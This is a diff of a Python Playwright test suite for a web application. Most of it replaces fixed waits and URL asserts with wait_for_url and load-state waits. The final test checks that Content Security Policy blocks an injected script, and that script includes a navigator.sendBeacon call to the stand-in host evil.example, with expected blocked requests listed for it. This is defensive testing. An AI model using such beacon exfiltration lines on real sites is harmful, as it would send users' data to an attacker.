@@ -94,6 +94,11 @@ class WatchResult:
         assert self.page.evaluate("window.stolen === undefined && window.owned === undefined")
 
 
+FOCUSED = (
+    "document.activeElement.id === 'name'"  # who fills the field before, gets a complaint of the browser
+)
+
+
 def enter(context: BrowserContext, served: Served, name: str = "paul") -> WatchResult:
     """Log in through the form."""
     page = context.new_page()
@@ -103,10 +108,12 @@ def enter(context: BrowserContext, served: Served, name: str = "paul") -> WatchR
     page.on("pageerror", lambda e: watched.complaints.append(str(e)))
     page.on("dialog", lambda d: (watched.dialogs.append(d.message), d.dismiss()))
     page.goto(served.address)
+    page.wait_for_function(FOCUSED)
     page.fill("#name", name)
     page.fill("#password", PASSWORD)
     page.click("button.main")
-    page.wait_for_selector("main h1")
+    page.wait_for_selector("header.top")
+    page.wait_for_load_state()  # its scripts listen
     return watched
 
 
@@ -135,6 +142,7 @@ def unfold(page: Page) -> None:
 def look(served: Served, watched: WatchResult, axe: object, expected: int = 200) -> None:
     """Check the open page: no problem found by axe, nothing wider than the window, no script run."""
     page = watched.page
+    page.wait_for_load_state()
     unfold(page)
     for target in page.query_selector_all("main bdi, main time")[:60]:
         target.dispatch_event("mouseover")
@@ -312,6 +320,7 @@ def test_a_second_factor_and_a_token_are_made_with_keys_alone_at_both_widths(
     page.goto(f"{served.address}/me")
     look(served, watched, axe)
     page.click("text=Log out")
+    page.wait_for_function(FOCUSED)
     page.fill("#name", name)
     page.fill("#password", PASSWORD)
     page.keyboard.press("Enter")
@@ -384,6 +393,7 @@ def test_the_queue_is_worked_without_a_mouse(browser: Browser, served: Served) -
     page.keyboard.press("Tab")
     page.keyboard.press("Enter")
     page.wait_for_selector("text=The note is kept.")
+    page.wait_for_load_state()
     assert page.locator("#said").inner_text() == "The note is kept."
     page.keyboard.press("a")
     assert page.evaluate("document.activeElement.id") == "step"
@@ -407,12 +417,11 @@ def test_filters_and_pages_swap_and_stand_in_the_address(browser: Browser, serve
     context = browser.new_context()
     watched = enter(context, served)
     page = watched.page
-    page.wait_for_load_state("load")  # of the page after the log-in: else it may count below
     loads: list[str] = []
     page.on("load", lambda _: loads.append(page.url))
     page.select_option("#state", "closed")
     page.wait_for_selector("text=No case matches.")
-    assert "state=closed" in page.url
+    page.wait_for_url("**state=closed**")
     page.select_option("#state", "all")
     page.wait_for_selector("#rows table")
     assert loads == []  # swapped, not loaded
@@ -423,8 +432,8 @@ def test_filters_and_pages_swap_and_stand_in_the_address(browser: Browser, serve
     first = page.locator("#members tbody th").first.inner_text()
     page.locator("#members a[rel=next]").click()
     page.wait_for_function("t => document.querySelector('#members tbody th').innerText !== t", arg=first)
+    page.wait_for_url("**offset=25**")
     assert loads == []
-    assert "offset=25" in page.url
     page.fill("#starts", "acct_04001")
     page.keyboard.press("Enter")
     page.wait_for_selector("text=16 accounts, by name.")
@@ -440,15 +449,15 @@ def test_it_can_be_read_without_scripts(browser: Browser, served: Served) -> Non
     page.fill("#name", "rita")
     page.fill("#password", PASSWORD)
     page.click("button.main")
-    assert page.url.endswith(f"/case/{served.big}")  # it continued to the requested page
+    page.wait_for_url(f"**/case/{served.big}")  # it continued to the requested page
     assert page.locator("h1").is_visible()
     page.locator("#members a[rel=next]").click()
-    assert "offset=25" in page.url
+    page.wait_for_url("**offset=25**")
     assert page.locator("#members tbody tr").count() == 25
     page.goto(f"{served.address}/queue")
     page.select_option("#state", "closed")
     page.get_by_role("button", name="Show").click()
-    assert "state=closed" in page.url
+    page.wait_for_url("**state=closed**")
     page.goto(f"{served.address}/case/{served.big}")
     page.locator("summary", has_text="As a table").click()
     assert page.locator("details table").first.is_visible()
@@ -460,7 +469,6 @@ def test_times_are_utc_with_the_readers_own_on_hover(browser: Browser, served: S
     watched = enter(context, served)
     time_ = watched.page.locator("main time").first
     assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC", time_.get_attribute("title") or "")
-    watched.page.wait_for_load_state("load")  # the script listens now
     time_.hover()
     expect(time_).to_have_attribute("title", re.compile(r"GMT\+9|JST"))
     context.close()
@@ -516,9 +524,16 @@ def test_a_script_that_got_in_would_not_run_and_reach_nobody(browser: Browser, s
         navigator.sendBeacon('https://evil.example/b', 'x');
         }"""
     )
-    page.wait_for_timeout(300)
+    tried = sorted(
+        f"https://evil.example/{name}" for name in ("c.css", "i")
+    )  # a form, fetch and beacon are stopped before
+    for _ in range(600):
+        if sorted(stopped) == tried:
+            break
+        page.wait_for_timeout(100)
+    page.wait_for_timeout(300)  # for what should not come
     assert page.evaluate("window.stolen === undefined")
     assert page.url.startswith(served.address)
-    assert sorted(stopped) == sorted(watched.outside)  # the browser reports requests that it did not send
+    assert sorted(stopped) == sorted(watched.outside) == tried  # reported by the browser, and not sent
     assert any("Content Security Policy" in c for c in watched.complaints)
     context.close()
